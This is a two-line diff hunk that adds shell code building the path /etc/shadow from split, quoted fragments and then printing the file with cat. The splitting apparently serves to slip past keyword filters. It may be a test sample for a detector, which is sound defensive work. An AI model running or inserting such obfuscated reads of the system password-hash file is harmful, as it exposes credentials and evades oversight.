@@ -1,0 +1,2 @@
+f="/etc/"'sha'"dow"
+cat "$f"
